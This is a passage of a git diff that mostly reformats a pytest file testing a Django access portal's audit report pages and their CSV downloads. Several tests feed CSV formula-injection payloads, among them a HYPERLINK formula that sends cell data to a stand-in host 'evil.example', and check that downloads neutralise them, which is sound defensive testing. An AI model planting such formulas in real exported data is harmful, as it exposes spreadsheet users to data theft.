@@ -1,4 +1,5 @@
-"""The report pages under /audit/ (the reports app): what each shows, to whom, filtered and sorted, and their CSV downloads."""
+"""The report pages under /audit/ (the reports app): what each
+shows, to whom, filtered and sorted, and their CSV downloads."""
 
 import csv
 import datetime
@@ -18,14 +19,17 @@ import psycopg
 import pytest
 from django.db import connection
 from django.db.models import Count, F, Max, Q, TextField, Value
+from django.db.models.query import QuerySet
 from django.http import StreamingHttpResponse
+from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
+from psycopg import sql
 
 from audit.models import AuditEvent
 from devtools.pgcluster import free_port
-from grants import lifecycle, policy, reconcile, tallies
+from grants import lifecycle, policy, reconcile, selectors, tallies
 from grants.models import AccessProfile, AccessRequest, ApproverDecisionDay, Grant, Policy, ProfileDecisionDay, Target
 from reports import columns, downloads, scope
 
@@ -121,7 +125,15 @@ def history(ana, bob, otto, marc, profile, quick_profile):
     lifecycle.cancel_request(cancelled.pk, actor=ana)
     for obj in (live, emergency, lapsed, cancelled, denied):
         obj.refresh_from_db()
-    return {"done": done, "live": live, "auto": auto, "denied": denied, "emergency": emergency, "lapsed": lapsed, "cancelled": cancelled}
+    return {
+        "done": done,
+        "live": live,
+        "auto": auto,
+        "denied": denied,
+        "emergency": emergency,
+        "lapsed": lapsed,
+        "cancelled": cancelled,
+    }
 
 
 # Who sees what --------------------------------------------------------------
@@ -209,8 +221,9 @@ def test_an_approver_sees_only_the_decisions_they_took_part_in(client, history, 
 
 def test_an_approver_of_an_earlier_step_sees_the_request_a_colleague_finished(client, ana, otto, marc, target, groups):
     two_steps = Policy.objects.create(name="two-steps", steps=[{"group": "db-approvers"}, {"group": "db-approvers"}])
-    p = AccessProfile.objects.create(name="appdb-admin", title="appdb admin", target=target, policy=two_steps,
-                                     scope={"roles": ["app_readwrite"]})
+    p = AccessProfile.objects.create(
+        name="appdb-admin", title="appdb admin", target=target, policy=two_steps, scope={"roles": ["app_readwrite"]}
+    )
     req = ask(ana, p)
     lifecycle.approve_request(req.pk, actor=otto)
     lifecycle.approve_request(req.pk, actor=marc)
@@ -279,7 +292,7 @@ def test_access_history_has_one_row_per_grant_with_who_decided_and_how_it_ended(
     assert (row["decision"], row["decided_by"], row["auto_rule"]) == ("approved", "otto", "")
     assert (row["justification"], row["ticket"]) == (JUSTIFICATION, "INC-4711")
     assert (row["status"], row["end_reason"], row["ended_by"]) == ("revoked", "released", "ana")
-    assert row["ended_at"] == done.verified_at.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert row["ended_at"] == done.verified_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
     assert row["duration_seconds"] == str(int((done.verified_at - done.starts_at).total_seconds()))
     assert rows[history["auto"].grant.pk]["auto_rule"] == "short-fix"
     assert rows[history["emergency"].grant.pk]["decision"] == "break_glass"
@@ -351,14 +364,22 @@ def test_decisions_report_time_to_decision_auto_share_denials_and_lapses(client,
     client.force_login(audra)
     response = client.get(DECISIONS)
     totals = response.context["totals"]
-    assert (totals["decided"], totals["approved"], totals["auto_approved"], totals["break_glass"], totals["denied"]) == (5, 2, 1, 1, 1)
+    assert (
+        totals["decided"],
+        totals["approved"],
+        totals["auto_approved"],
+        totals["break_glass"],
+        totals["denied"],
+    ) == (5, 2, 1, 1, 1)
     assert (totals["lapsed"], totals["cancelled"]) == (1, 1)
     assert totals["auto_share"] == pytest.approx(1 / 5)
     page = text(response)
     assert "<dt>Auto-approval share</dt><dd>20%</dd>" in page
     by_profile = {row["profile__name"]: row for row in records(response, section=0)}
     assert by_profile["appdb-readwrite"]["auto_approved"] == 1 and by_profile["appdb-readwrite"]["denied"] == 1
-    assert by_profile["appdb-readwrite"]["break_glass"] == 1 and by_profile["appdb-readwrite"]["auto_share"] == pytest.approx(1 / 3)
+    assert by_profile["appdb-readwrite"]["break_glass"] == 1 and by_profile["appdb-readwrite"][
+        "auto_share"
+    ] == pytest.approx(1 / 3)
     assert by_profile["appdb-readonly"]["approved"] == 2 and by_profile["appdb-readonly"]["lapsed"] == 1
     assert by_profile["appdb-readonly"]["cancelled"] == 1
     by_approver = {row["decided_by__username"]: row for row in records(response, section=1)}
@@ -371,7 +392,11 @@ def test_decisions_report_time_to_decision_auto_share_denials_and_lapses(client,
 
     rows = {r["request_id"]: r for r in as_dicts(download(client, DECISIONS))}
     denied = rows[str(history["denied"].pk)]
-    assert (denied["decision"], denied["decided_by"], denied["comment"]) == ("denied", "otto", "Use the migration pipeline")
+    assert (denied["decision"], denied["decided_by"], denied["comment"]) == (
+        "denied",
+        "otto",
+        "Use the migration pipeline",
+    )
     assert int(denied["time_to_decision_seconds"]) >= 0 and denied["requested_duration_seconds"] == "5400"
     profiles = {r["profile"]: r for r in as_dicts(download(client, DECISIONS, table="decisions_by_profile"))}
     assert profiles["appdb-readwrite"]["auto_share"] == "0.3333"
@@ -379,15 +404,14 @@ def test_decisions_report_time_to_decision_auto_share_denials_and_lapses(client,
     assert [r["approver"] for r in approvers] == ["marc", "otto"]
 
 
-def test_break_glass_page_shows_every_use_with_its_review_and_every_drift_finding(client, history, audra, otto, target, pg_cluster):
+def test_break_glass_page_shows_every_use_with_its_review_and_every_drift_finding(
+    client, history, audra, otto, target, pg_cluster
+):
     emergency = history["emergency"]
     client.force_login(audra)
     [use] = records(client.get(BREAK_GLASS))
     assert (use.pk, use.review_state) == (emergency.pk, "open")
     lifecycle.close_review(emergency.review.pk, actor=otto, comment="Checked the incident channel: real outage")
-
-    import psycopg
-    from psycopg import sql
 
     with psycopg.connect(pg_cluster.admin_dsn, autocommit=True) as conn:
         conn.execute(sql.SQL("CREATE ROLE {} LOGIN PASSWORD 'x'").format(sql.Identifier("jit_g999999")))
@@ -448,8 +472,13 @@ def other_target(db):
 
 @pytest.fixture
 def billing(other_target, groups):
-    p = AccessProfile.objects.create(name="billing-readonly", title="billing read-only", target=other_target,
-                                     approver_group=groups["db-approvers"], scope={"roles": ["billing_ro"]})
+    p = AccessProfile.objects.create(
+        name="billing-readonly",
+        title="billing read-only",
+        target=other_target,
+        approver_group=groups["db-approvers"],
+        scope={"roles": ["billing_ro"]},
+    )
     p.requestable_by.add(groups["engineers"])
     return p
 
@@ -476,8 +505,12 @@ def test_the_period_keeps_grants_that_existed_in_it(client, history, audra):
     # Backdated so that the finished grant, from approval to confirmed gone, lies wholly in the past week.
     done, week = history["done"], datetime.timedelta(days=7)
     AccessRequest.objects.filter(pk=done.request_id).update(created_at=done.request.created_at - week)
-    Grant.objects.filter(pk=done.pk).update(created_at=done.created_at - week, starts_at=done.starts_at - week,
-                                            revoked_at=done.revoked_at - week, verified_at=done.verified_at - week)
+    Grant.objects.filter(pk=done.pk).update(
+        created_at=done.created_at - week,
+        starts_at=done.starts_at - week,
+        revoked_at=done.revoked_at - week,
+        verified_at=done.verified_at - week,
+    )
     client.force_login(audra)
 
     def grant_ids(**params):
@@ -512,8 +545,9 @@ def test_decisions_filter_by_period_requester_approver_and_outcome(client, histo
 
 def test_decisions_show_the_last_30_days_unless_a_period_is_chosen(client, history, audra):
     old = history["denied"]
-    AccessRequest.objects.filter(pk=old.pk).update(created_at=old.created_at - datetime.timedelta(days=41),
-                                                   decided_at=old.decided_at - datetime.timedelta(days=40))
+    AccessRequest.objects.filter(pk=old.pk).update(
+        created_at=old.created_at - datetime.timedelta(days=41), decided_at=old.decided_at - datetime.timedelta(days=40)
+    )
     tallies.rebuild()  # rows changed behind the lifecycle's back: recount the day tallies
     client.force_login(audra)
 
@@ -539,8 +573,11 @@ def test_decision_totals_add_up_the_profiles(client, history, audra):
     response = client.get(DECISIONS)
     totals, per_profile = response.context["totals"], records(response, section=0)
     direct = AccessRequest.objects.exclude(status="pending").aggregate(
-        decided=Count("pk", filter=Q(status__in=["approved", "denied"])), lapsed=Count("pk", filter=Q(status="lapsed")),
-        longest=Max(F("decided_at") - F("created_at"), filter=Q(decided_by__isnull=False, status__in=["approved", "denied"])),
+        decided=Count("pk", filter=Q(status__in=["approved", "denied"])),
+        lapsed=Count("pk", filter=Q(status="lapsed")),
+        longest=Max(
+            F("decided_at") - F("created_at"), filter=Q(decided_by__isnull=False, status__in=["approved", "denied"])
+        ),
     )
     assert totals["decided"] == direct["decided"] == sum(p["decided"] for p in per_profile) > 0
     assert totals["lapsed"] == direct["lapsed"] == 1
@@ -548,22 +585,45 @@ def test_decision_totals_add_up_the_profiles(client, history, audra):
 
 
 def _tallies():
-    return (sorted(ProfileDecisionDay.objects.values_list("day", "profile__name", "requests", "decided", "approved", "auto_approved",
-                                                        "break_glass", "denied", "lapsed", "cancelled", "decided_by_person",
-                                                        "person_time", "person_time_max")),
-            sorted(ApproverDecisionDay.objects.values_list("day", "approver__username", "decided", "approved", "denied",
-                                                         "person_time", "person_time_max")))
+    return (
+        sorted(
+            ProfileDecisionDay.objects.values_list(
+                "day",
+                "profile__name",
+                "requests",
+                "decided",
+                "approved",
+                "auto_approved",
+                "break_glass",
+                "denied",
+                "lapsed",
+                "cancelled",
+                "decided_by_person",
+                "person_time",
+                "person_time_max",
+            )
+        ),
+        sorted(
+            ApproverDecisionDay.objects.values_list(
+                "day", "approver__username", "decided", "approved", "denied", "person_time", "person_time_max"
+            )
+        ),
+    )
 
 
 def test_each_decision_is_counted_in_its_days_tallies_as_a_recount_counts_it(history, ana, bob, quick_profile, profile):
     pending = ask(bob, quick_profile, minutes=90, justification="Will be cancelled when the profile is disabled")
-    lifecycle.approve_request(ask(ana, profile, minutes=10, justification="A second approval today, by marc").pk,
-                              actor=history["live"].request.decided_by, comment="fine")
+    lifecycle.approve_request(
+        ask(ana, profile, minutes=10, justification="A second approval today, by marc").pk,
+        actor=history["live"].request.decided_by,
+        comment="fine",
+    )
     AccessProfile.objects.filter(pk=quick_profile.pk).update(enabled=False)
     quick_profile.refresh_from_db()
     assert lifecycle.cancel_requests_of_disabled_profile(quick_profile) == [pending.pk]  # cancelled by policy
     kept = _tallies()
-    # Every kind of decision: by a person, by a rule, break-glass, denied, lapsed, cancelled (by the requester, by policy).
+    # Every kind of decision: by a person, by a rule, break-glass,
+    # denied, lapsed, cancelled (by the requester, by policy).
     per_profile = {}
     for row in kept[0]:
         per_profile[row[1]] = per_profile.get(row[1], 0) + row[2]
@@ -575,43 +635,79 @@ def test_each_decision_is_counted_in_its_days_tallies_as_a_recount_counts_it(his
 
 # Dates in the portal's time zone cut UTC days at other places: periods of whole UTC days, of partial ones, and none.
 @pytest.mark.parametrize("zone", ["UTC", "Asia/Kolkata", "America/Los_Angeles"])
-def test_decisions_figures_from_the_day_tallies_are_those_of_the_raw_rows(client, history, audra, otto, marc, ana, bob, profile,
-                                                                          quick_profile, settings, zone, django_user_model, groups):
+def test_decisions_figures_from_the_day_tallies_are_those_of_the_raw_rows(
+    client, history, audra, otto, marc, ana, bob, profile, quick_profile, settings, zone, django_user_model, groups
+):
     settings.TIME_ZONE = zone
-    cara, dan = (django_user_model.objects.create_user(name, f"{name}@example.com", "x-password-123") for name in ("cara", "dan"))
+    cara, dan = (
+        django_user_model.objects.create_user(name, f"{name}@example.com", "x-password-123") for name in ("cara", "dan")
+    )
     for user in (cara, dan):
         user.groups.add(groups["engineers"])
-    for offset, (user, prof, approver, approve) in enumerate([
-        (ana, profile, otto, True), (dan, quick_profile, marc, False), (bob, quick_profile, otto, True),
-        (cara, profile, marc, False), (cara, quick_profile, otto, True), (dan, profile, otto, False),
-    ]):
+    for offset, (user, prof, approver, approve) in enumerate(
+        [
+            (ana, profile, otto, True),
+            (dan, quick_profile, marc, False),
+            (bob, quick_profile, otto, True),
+            (cara, profile, marc, False),
+            (cara, quick_profile, otto, True),
+            (dan, profile, otto, False),
+        ]
+    ):
         req = ask(user, prof, minutes=95 + offset, justification=f"Older decision number {offset} for the tallies")
         decide = lifecycle.approve_request if approve else lifecycle.deny_request
         decide(req.pk, actor=approver, comment="")
     # Spread the decisions over a few days and hours (behind the lifecycle's back), then recount.
     for n, req in enumerate(AccessRequest.objects.exclude(status="pending").order_by("pk")):
         back = datetime.timedelta(days=n % 4, hours=7 * n, minutes=n)
-        AccessRequest.objects.filter(pk=req.pk).update(created_at=req.created_at - back - datetime.timedelta(minutes=3 * n),
-                                                       decided_at=req.decided_at - back)
+        AccessRequest.objects.filter(pk=req.pk).update(
+            created_at=req.created_at - back - datetime.timedelta(minutes=3 * n), decided_at=req.decided_at - back
+        )
     tallies.rebuild()
     client.force_login(audra)
     day = today()
-    for params in [{"since": ""}, {"since": (day - datetime.timedelta(days=2)).isoformat()},
-                   {"since": (day - datetime.timedelta(days=3)).isoformat(), "until": (day - datetime.timedelta(days=1)).isoformat()},
-                   {"since": day.isoformat(), "until": day.isoformat()}, {"until": (day - datetime.timedelta(days=2)).isoformat()},
-                   {"since": "", "target": "appdb-cluster"}, {"since": "", "profile": "appdb-readwrite"},
-                   {"since": (day - datetime.timedelta(days=1)).isoformat(), "profile": "appdb-readonly"}]:
+    for params in [
+        {"since": ""},
+        {"since": (day - datetime.timedelta(days=2)).isoformat()},
+        {
+            "since": (day - datetime.timedelta(days=3)).isoformat(),
+            "until": (day - datetime.timedelta(days=1)).isoformat(),
+        },
+        {"since": day.isoformat(), "until": day.isoformat()},
+        {"until": (day - datetime.timedelta(days=2)).isoformat()},
+        {"since": "", "target": "appdb-cluster"},
+        {"since": "", "profile": "appdb-readwrite"},
+        {"since": (day - datetime.timedelta(days=1)).isoformat(), "profile": "appdb-readonly"},
+    ]:
         response = client.get(DECISIONS, params)
         start = params.get("since") and timezone.make_aware(datetime.datetime.fromisoformat(params["since"]))
-        end = params.get("until") and timezone.make_aware(datetime.datetime.fromisoformat(params["until"]) + datetime.timedelta(days=1))
-        rows = [r for r in AccessRequest.objects.exclude(status="pending").select_related("profile", "decided_by")
-                if (not start or r.decided_at >= start) and (not end or r.decided_at < end)
-                and r.profile.name == params.get("profile", r.profile.name)]
+        end = params.get("until") and timezone.make_aware(
+            datetime.datetime.fromisoformat(params["until"]) + datetime.timedelta(days=1)
+        )
+        rows = [
+            r
+            for r in AccessRequest.objects.exclude(status="pending").select_related("profile", "decided_by")
+            if (not start or r.decided_at >= start)
+            and (not end or r.decided_at < end)
+            and r.profile.name == params.get("profile", r.profile.name)
+        ]
         assert rows or params.get("until"), params
         expected = {}
         for r in rows:
-            e = expected.setdefault(r.profile.name, {"rows": 0, "decided": 0, "approved": 0, "auto_approved": 0, "break_glass": 0,
-                                                     "denied": 0, "lapsed": 0, "cancelled": 0, "times": []})
+            e = expected.setdefault(
+                r.profile.name,
+                {
+                    "rows": 0,
+                    "decided": 0,
+                    "approved": 0,
+                    "auto_approved": 0,
+                    "break_glass": 0,
+                    "denied": 0,
+                    "lapsed": 0,
+                    "cancelled": 0,
+                    "times": [],
+                },
+            )
             e["rows"] += 1
             e["decided"] += r.status in ("approved", "denied")
             e["approved"] += r.status == "approved" and r.decided_by is not None
@@ -625,7 +721,9 @@ def test_decisions_figures_from_the_day_tallies_are_those_of_the_raw_rows(client
         for name, e in expected.items():
             times = e.pop("times")
             assert {k: shown[name][k] for k in e} == e, (params, name)
-            assert shown[name]["avg_time_to_decision"] == (sum(times, datetime.timedelta(0)) / len(times) if times else None)
+            assert shown[name]["avg_time_to_decision"] == (
+                sum(times, datetime.timedelta(0)) / len(times) if times else None
+            )
             assert shown[name]["max_time_to_decision"] == max(times, default=None)
         by_person = [r for r in rows if r.decided_by is not None and r.status in ("approved", "denied")]
         approvers = {row["decided_by__username"]: row for row in records(response, section=1)}
@@ -634,8 +732,14 @@ def test_decisions_figures_from_the_day_tallies_are_those_of_the_raw_rows(client
             mine = [r for r in by_person if r.decided_by.username == name]
             times = [r.decided_at - r.created_at for r in mine]
             assert (row["decided"], row["approved"], row["denied"]) == (
-                len(mine), sum(r.status == "approved" for r in mine), sum(r.status == "denied" for r in mine))
-            assert (row["avg_time_to_decision"], row["max_time_to_decision"]) == (sum(times, datetime.timedelta(0)) / len(times), max(times))
+                len(mine),
+                sum(r.status == "approved" for r in mine),
+                sum(r.status == "denied" for r in mine),
+            )
+            assert (row["avg_time_to_decision"], row["max_time_to_decision"]) == (
+                sum(times, datetime.timedelta(0)) / len(times),
+                max(times),
+            )
         assert response.context["totals"]["decided"] == sum(e["decided"] for e in expected.values())
         assert response.context["sections"][2].table.paginator.count == len(rows)
 
@@ -646,8 +750,14 @@ def test_the_pages_figures_are_the_downloads_figures(client, history, audra, ott
     client.force_login({"audra": audra, "otto": otto}[who])
     response = client.get(DECISIONS)
     for section, table in ((0, "decisions_by_profile"), (1, "decisions_by_approver")):
-        shown = [{k: downloads.cell(v) for k, v in row.items() if k in {c.field for c in response.context["sections"][section].columns}}
-                 for row in records(response, section=section)]
+        shown = [
+            {
+                k: downloads.cell(v)
+                for k, v in row.items()
+                if k in {c.field for c in response.context["sections"][section].columns}
+            }
+            for row in records(response, section=section)
+        ]
         downloaded = as_dicts(download(client, DECISIONS, table=table))
         columns = response.context["sections"][section].columns
         assert [{c.header: r[c.field] for c in columns} for r in shown] == downloaded
@@ -693,8 +803,9 @@ def test_a_filter_it_cannot_read_shows_nothing_and_refuses_the_download(client, 
         ({"since": "0001-01-01"}, "Asia/Tokyo", "From: Enter a date between 0001-01-02 and 9998-12-31."),
     ],
 )
-def test_a_date_at_the_end_of_the_calendar_is_a_form_error_and_refuses_the_download(client, history, audra, settings, url, params, zone,
-                                                                                     message):
+def test_a_date_at_the_end_of_the_calendar_is_a_form_error_and_refuses_the_download(
+    client, history, audra, settings, url, params, zone, message
+):
     settings.TIME_ZONE = zone
     client.force_login(audra)
     response = client.get(url, params)
@@ -780,13 +891,18 @@ DOWNLOADS = [
 
 
 @pytest.mark.parametrize("url, table, columns", DOWNLOADS)
-def test_every_report_downloads_as_a_streamed_csv_with_its_documented_headers(client, history, audra, url, table, columns):
+def test_every_report_downloads_as_a_streamed_csv_with_its_documented_headers(
+    client, history, audra, url, table, columns
+):
     client.force_login(audra)
     with CaptureQueriesContext(connection) as queries:
         response = client.get(url, {"format": "csv", "table": table})
         assert isinstance(response, StreamingHttpResponse)
         assert response["Content-Type"] == "text/csv; charset=utf-8"
-        assert re.fullmatch(rf'attachment; filename="jitportal-{table.replace("_", "-")}-\d{{8}}T\d{{6}}Z\.csv"', response["Content-Disposition"])
+        assert re.fullmatch(
+            rf'attachment; filename="jitportal-{table.replace("_", "-")}-\d{{8}}T\d{{6}}Z\.csv"',
+            response["Content-Disposition"],
+        )
         # Recorded before a single row is read.
         event = AuditEvent.objects.get(action="report.downloaded")
         assert event.details["report"] == table and event.actor == audra
@@ -802,8 +918,9 @@ def test_every_report_downloads_as_a_streamed_csv_with_its_documented_headers(cl
 
 @pytest.mark.parametrize("debug", [False, True], ids=["debug-off", "debug-on"])
 @pytest.mark.parametrize("url, table, columns", DOWNLOADS)
-def test_every_download_holds_the_rows_its_page_counts_with_debug_on_and_off(client, history, audra, settings, url, table, columns,
-                                                                            debug):
+def test_every_download_holds_the_rows_its_page_counts_with_debug_on_and_off(
+    client, history, audra, settings, url, table, columns, debug
+):
     # Regression: on SQLite with DEBUG (make run's demo) the debug cursor formats the finished SQL with `%` again,
     # and a `%Y` in a strftime template failed the stream after its header: a 200 with the header line only.
     settings.DEBUG = debug
@@ -816,8 +933,6 @@ def test_every_download_holds_the_rows_its_page_counts_with_debug_on_and_off(cli
 
 
 def test_downloads_read_rows_through_a_chunked_iterator_or_a_copy(client, history, audra, monkeypatch):
-    from django.db.models.query import QuerySet
-
     seen = []
     iterator = QuerySet.iterator
 
@@ -845,20 +960,20 @@ def _both_paths(rows, columns):
     return written, b"".join(downloads._copied_chunks(values, rows_per_chunk=2))
 
 
-@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's; SQLite writes every CSV through the csv module")
+@pytest.mark.skipif(
+    connection.vendor != "postgresql", reason="COPY is PostgreSQL's; SQLite writes every CSV through the csv module"
+)
 def test_copy_writes_the_same_bytes_as_the_csv_module(client, history, django_user_model, groups, profile, otto, audra):
-    from grants import selectors
-
     odd = django_user_model.objects.create_user("@mallory", "=cmd@example.com", "mallory-password-123")
     odd.groups.add(groups["engineers"])
     for justification, ticket in [
         ('Line one, with a comma\r\nline two "quoted" and \\. a backslash', ""),
-        ("=HYPERLINK(\"http://evil.example\",\"click\")", "+1"),
+        ('=HYPERLINK("http://evil.example","click")', "+1"),
         ("-2+3 Zürich ✓ and a bare\nLF in the middle", "@SUM(1)"),
         ("A justification that ends with spaces   ", "a,b"),
     ]:
         req = ask(odd, profile, justification=justification, ticket=ticket)
-        lifecycle.deny_request(req.pk, actor=otto, comment="=\"quoted\", said otto")
+        lifecycle.deny_request(req.pk, actor=otto, comment='="quoted", said otto')
     held(odd, profile, otto, justification='A quote " inside, and one at the end"', ticket="\\.")
     queries = [
         (selectors.access_history_columns(selectors.access_history_base()), columns.ACCESS_HISTORY),
@@ -872,17 +987,27 @@ def test_copy_writes_the_same_bytes_as_the_csv_module(client, history, django_us
         written, copied = _both_paths(rows, report_columns)
         assert copied == written
     written, _ = _both_paths(selectors.decisions(), columns.DECISIONS)
-    assert written.count(b"\r\n") > 10 and b"'@mallory" in written and b'"\'=""quoted""' in written  # the data has what it should
-    # Every start a spreadsheet runs, as the database neutralises it for COPY and for the csv module, is what `cell` gives.
+    assert (
+        written.count(b"\r\n") > 10 and b"'@mallory" in written and b'"\'=""quoted""' in written
+    )  # the data has what it should
+    # Every start a spreadsheet runs, as the database neutralises
+    # it for COPY and for the csv module, is what `cell` gives.
     for value in [*downloads.FORMULA_STARTS, "=1+2", "\tx", "plain", "", "é=x", "'quoted"]:
         text = Value(value, output_field=TextField())
-        made = AccessRequest.objects.annotate(v=text).values_list(
-            downloads._formula_safe("v", postgresql=True), downloads._formula_safe("v"))[:1].get()
+        made = (
+            AccessRequest.objects.annotate(v=text)
+            .values_list(downloads._formula_safe("v", postgresql=True), downloads._formula_safe("v"))[:1]
+            .get()
+        )
         assert made == (downloads.cell(value),) * 2, value
     client.force_login(audra)
     body = b"".join(client.get(ACCESS, {"format": "csv"}).streaming_content)
     header = ",".join(c.header for c in columns.ACCESS_HISTORY).encode() + b"\r\n"
-    assert body == header + _both_paths(selectors.access_history_columns(selectors.access_history_base()), columns.ACCESS_HISTORY)[0]
+    assert (
+        body
+        == header
+        + _both_paths(selectors.access_history_columns(selectors.access_history_base()), columns.ACCESS_HISTORY)[0]
+    )
 
 
 @pytest.mark.parametrize("url, table, columns", DOWNLOADS)
@@ -894,28 +1019,36 @@ def test_the_readme_documents_every_csv_column(url, table, columns):
         assert f"`{column.header}`" in section, column.header
 
 
-@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"http://evil\")"])
+@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil")'])
 def test_cells_that_a_spreadsheet_would_run_are_neutralised(value):
     assert downloads.cell(value) == "'" + value
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("plain", "plain"),
-    ("a=b", "a=b"),
-    ("", ""),
-    (None, ""),
-    (True, "true"),
-    (7, "7"),
-    (datetime.timedelta(minutes=90, microseconds=5), "5400"),
-    (datetime.datetime(2026, 11, 29, 4, 4, 5, 123456, tzinfo=datetime.timezone(datetime.timedelta(hours=1))), "2026-11-29T03:04:05Z"),
-    ({"b": 1, "a": "=x"}, '{"a":"=x","b":1}'),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (True, "true"),
+        (7, "7"),
+        (datetime.timedelta(minutes=90, microseconds=5), "5400"),
+        (
+            datetime.datetime(2026, 11, 29, 4, 4, 5, 123456, tzinfo=datetime.timezone(datetime.timedelta(hours=1))),
+            "2026-11-29T03:04:05Z",
+        ),
+        ({"b": 1, "a": "=x"}, '{"a":"=x","b":1}'),
+    ],
+)
 def test_cells_are_plain_text_iso_times_and_whole_seconds(value, expected):
     assert downloads.cell(value) == expected
 
 
 def test_formula_injection_through_the_portal_is_neutralised_in_downloads(client, ana, otto, profile, audra):
-    req = ask(ana, profile, justification="=HYPERLINK(\"http://evil.example/\"&A1, \"click for details\")", ticket="@SUM(1+1)")
+    req = ask(
+        ana, profile, justification='=HYPERLINK("http://evil.example/"&A1, "click for details")', ticket="@SUM(1+1)"
+    )
     lifecycle.deny_request(req.pk, actor=otto, comment="-2+3 is not a reason")
     client.force_login(audra)
     [row] = as_dicts(download(client, DECISIONS))
@@ -931,7 +1064,7 @@ def test_csv_times_are_utc_whatever_the_portal_time_zone(client, history, audra,
     rows = as_dicts(download(client, ACCESS))
     done = history["done"]
     row = next(r for r in rows if r["grant_id"] == str(done.pk))
-    assert row["started_at"] == done.starts_at.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert row["started_at"] == done.starts_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
     for r in rows:
         for name in ("requested_at", "decided_at", "started_at", "expires_at", "ended_at"):
             assert r[name] == "" or ISO_UTC.match(r[name]), (name, r[name])
@@ -949,7 +1082,8 @@ def test_the_download_link_carries_the_filters(client, history, audra):
 
 
 def fill(n, *, profile, quick_profile, plain_profile, otto, groups, django_user_model, target):
-    """Bring the portal to `n` people who each hold a grant, used break-glass, had a request approved and left a drift finding."""
+    """Bring the portal to `n` people who each hold a grant, used
+    break-glass, had a request approved and left a drift finding."""
     have = django_user_model.objects.filter(username__startswith="load").count()
     for i in range(have, n):
         user = django_user_model.objects.create_user(f"load{i:03}", f"load{i:03}@example.com")
@@ -963,25 +1097,41 @@ def fill(n, *, profile, quick_profile, plain_profile, otto, groups, django_user_
 
 @pytest.fixture
 def load(profile, quick_profile, otto, groups, django_user_model, target):
-    plain = AccessProfile.objects.create(name="appdb-plain", title="appdb plain", target=target, approver_group=groups["db-approvers"],
-                                         scope={"roles": ["app_readonly"]})
-    return lambda n: fill(n, profile=profile, quick_profile=quick_profile, plain_profile=plain, otto=otto, groups=groups,
-                          django_user_model=django_user_model, target=target)
+    plain = AccessProfile.objects.create(
+        name="appdb-plain",
+        title="appdb plain",
+        target=target,
+        approver_group=groups["db-approvers"],
+        scope={"roles": ["app_readonly"]},
+    )
+    return lambda n: fill(
+        n,
+        profile=profile,
+        quick_profile=quick_profile,
+        plain_profile=plain,
+        otto=otto,
+        groups=groups,
+        django_user_model=django_user_model,
+        target=target,
+    )
 
 
 def shown(response):
     return sum(len(section.table.paginated_rows) for section in response.context["sections"])
 
 
-@pytest.mark.parametrize("viewer, url", [
-    ("audra", ACCESS),
-    ("audra", CURRENT),
-    ("audra", DECISIONS),
-    ("otto", DECISIONS),
-    ("audra", BREAK_GLASS),
-    ("audra", "/audit/users/otto/"),
-    ("otto", "/audit/users/otto/"),
-])
+@pytest.mark.parametrize(
+    "viewer, url",
+    [
+        ("audra", ACCESS),
+        ("audra", CURRENT),
+        ("audra", DECISIONS),
+        ("otto", DECISIONS),
+        ("audra", BREAK_GLASS),
+        ("audra", "/audit/users/otto/"),
+        ("otto", "/audit/users/otto/"),
+    ],
+)
 def test_queries_per_page_do_not_grow_with_the_rows(client, load, audra, otto, viewer, url, django_assert_num_queries):
     client.force_login({"audra": audra, "otto": otto}[viewer])
     load(5)
@@ -1000,21 +1150,44 @@ def test_queries_per_page_do_not_grow_with_the_rows(client, load, audra, otto, v
 
 
 @pytest.mark.postgres_only("holds a PostgreSQL table lock and ends the portal's database session mid-stream")
-def test_a_download_that_fails_after_its_first_byte_is_aborted_and_logged_with_the_request_id(transactional_db, audra, settings,
-                                                                                               portal_database_url, tmp_path):
+def test_a_download_that_fails_after_its_first_byte_is_aborted_and_logged_with_the_request_id(
+    transactional_db, audra, settings, portal_database_url, tmp_path
+):
     # The portal under gunicorn (as `make run` and production serve it); the fault is real: the portal's database
     # session ends while the stream waits for its rows. The client must see a broken transfer, not a clean end.
-    from django.test import Client
 
     web = Client()
     web.force_login(audra)
     url = portal_database_url
     port = free_port()
     log = (tmp_path / "web.log").open("w+")
-    env = {**os.environ, "DATABASE_URL": url, "JITPORTAL_DEMO": "true", "SECRET_KEY": settings.SECRET_KEY, "LOG_FORMAT": "json", "DEBUG": "0"}
-    server = subprocess.Popen([sys.executable, "-m", "gunicorn", "jitportal.wsgi:application", "--bind", f"127.0.0.1:{port}",
-                               "--workers", "1", "--timeout", "60", "--no-control-socket"], env=env, cwd=Path(__file__).resolve().parents[2],
-                              stdout=log, stderr=subprocess.STDOUT)
+    env = {
+        **os.environ,
+        "DATABASE_URL": url,
+        "JITPORTAL_DEMO": "true",
+        "SECRET_KEY": settings.SECRET_KEY,
+        "LOG_FORMAT": "json",
+        "DEBUG": "0",
+    }
+    server = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "gunicorn",
+            "jitportal.wsgi:application",
+            "--bind",
+            f"127.0.0.1:{port}",
+            "--workers",
+            "1",
+            "--timeout",
+            "60",
+            "--no-control-socket",
+        ],
+        env=env,
+        cwd=Path(__file__).resolve().parents[2],
+        stdout=log,
+        stderr=subprocess.STDOUT,
+    )
     try:
         for _ in range(300):  # up to 30 s for gunicorn to import the portal
             with socket.socket() as probe:
@@ -1027,14 +1200,19 @@ def test_a_download_that_fails_after_its_first_byte_is_aborted_and_logged_with_t
             # stream's query waits for the lock, and that waiting session is ended.
             locker.execute("LOCK TABLE grants_grant IN ACCESS EXCLUSIVE MODE")
             http = HTTPConnection("127.0.0.1", port, timeout=30)
-            http.request("GET", ACCESS + "?format=csv", headers={"Cookie": f"sessionid={web.cookies['sessionid'].value}",
